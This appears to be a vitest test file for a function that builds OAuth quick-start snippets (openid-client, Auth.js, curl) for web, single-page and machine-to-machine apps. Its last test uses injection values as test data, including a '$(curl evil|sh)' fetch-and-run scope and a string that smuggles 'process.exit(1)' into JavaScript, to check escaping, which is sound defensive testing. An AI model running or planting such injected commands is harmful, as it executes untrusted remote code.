import { describe, expect, it } from "vitest";
import { quickStartSnippets, type TQuickStartApp } from "./quick-start.ts";

const endpoints = { issuer: "https://id.example.com/idp", token: "https://id.example.com/idp/oauth/te" };
const app = (over: Partial<TQuickStartApp>): TQuickStartApp => ({
  id: "shop",
  name: "Shop",
  kind: "web",
  redirectUris: ["https://shop.example.com/cb"],
  scopes: [],
  userScopes: ["idp_api_user"],
  grantTypes: ["authorization_code", "refresh_token"],
  ...over,
});

describe("quick start snippets", () => {
  it("give a web application openid-client with its secret and Auth.js, filled with its values", () => {
    const snippets = quickStartSnippets(app({}), endpoints);
    expect(snippets.map((s) => s.key)).toEqual(["openid-client", "authjs"]);
    const [node, authjs] = snippets.map((s) => s.code);
    expect(node).toContain(`new URL("https://id.example.com/idp")`);
    expect(node).toContain(`"shop"`);
    expect(node).toContain("client.ClientSecretBasic(process.env.CLIENT_SECRET)");
    expect(node).toContain(`const redirect_uri = "https://shop.example.com/cb";`);
    expect(node).toContain(`scope: "openid profile email offline_access idp_api_user"`);
    expect(node).not.toContain("allowInsecureRequests");
    expect(authjs).toContain(`issuer: "https://id.example.com/idp"`);
    expect(authjs).toContain(`clientId: "shop"`);
  });

  it("give a public application no secret, and a plain-http issuer the insecure option with a warning", () => {
    const [node, ...rest] = quickStartSnippets(app({ kind: "spa", grantTypes: ["authorization_code"], userScopes: [] }), { ...endpoints, issuer: "http://127.0.0.1:3000/idp" });
    expect(rest).toEqual([]);
    expect(node!.code).toContain("client.None()");
    expect(node!.code).not.toContain("CLIENT_SECRET");
    expect(node!.code).toContain(`scope: "openid profile email"`);
    expect(node!.code).toContain("client.allowInsecureRequests] }, // the issuer is plain http");
  });

  it("give a machine-to-machine application curl and openid-client's client credentials with its scopes", () => {
    const snippets = quickStartSnippets(app({ kind: "m2m", scopes: ["idp_api_sys_users", "idp_api_sys_uaud"], redirectUris: [], grantTypes: ["client_credentials"] }), endpoints);
    expect(snippets.map((s) => s.key)).toEqual(["curl", "openid-client"]);
    expect(snippets[0]!.code).toBe(
      [
        `curl -s -u 'shop:'"$CLIENT_SECRET" \\`,
        "  -d grant_type=client_credentials \\",
        "  --data-urlencode 'scope=idp_api_sys_users idp_api_sys_uaud' \\",
        "  'https://id.example.com/idp/oauth/te'",
        "",
      ].join("\n"),
    );
    expect(snippets[1]!.code).toContain(`scope: "idp_api_sys_users idp_api_sys_uaud"`);
    expect(snippets[1]!.code).toContain("clientCredentialsGrant");
  });

  it("quote every value for the shell and for JavaScript, so a scope or name from an import runs nothing", () => {
    const evil = app({ kind: "m2m", id: "a'b", name: 'x"; process.exit(1); "', scopes: ["$(curl evil|sh)", "`id`;'"], grantTypes: ["client_credentials"] });
    const [curl, node] = quickStartSnippets(evil, endpoints).map((s) => s.code);
    expect(curl).toContain(String.raw`-u 'a'\''b:'"$CLIENT_SECRET"`);
    expect(curl).toContain("--data-urlencode 'scope=$(curl evil|sh) `id`;'\\''' \\");
    expect(node).toContain('scope: "$(curl evil|sh) `id`;\'"');
    const authjs = quickStartSnippets({ ...evil, kind: "web", redirectUris: ["https://a.example/cb"] }, endpoints)[1]!.code;
    expect(authjs).toContain(String.raw`name: "x\"; process.exit(1); \""`);
  });
});
